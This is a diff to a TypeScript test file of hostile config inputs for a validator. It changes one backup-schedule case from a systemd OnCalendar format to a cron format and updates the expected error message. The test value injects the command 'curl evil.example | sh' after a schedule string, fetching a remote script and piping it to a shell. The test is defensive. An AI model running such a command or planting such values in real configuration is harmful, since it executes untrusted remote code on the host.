@@ -393,9 +393,9 @@ const cases: HostileCase[] = [
   },
   {
     what: "OnCalendar schedule with shell metacharacters (aws backups)",
-    content: stagingWith(/schedule: "\*-\*-\* 02:00:00"/, 'schedule: "*-*-* 02:00:00; curl evil.example | sh"'),
+    content: stagingWith(/schedule: "0 2 \* \* \*"/, 'schedule: "*-*-* 02:00:00; curl evil.example | sh"'),
     path: "backups.schedule",
-    message: /must be a systemd OnCalendar expression, e.g\. '\*-\*-\* 02:00:00'/,
+    message: /invalid cron schedule: must have five fields/,
   },
   // ---- parser robustness ----
   {
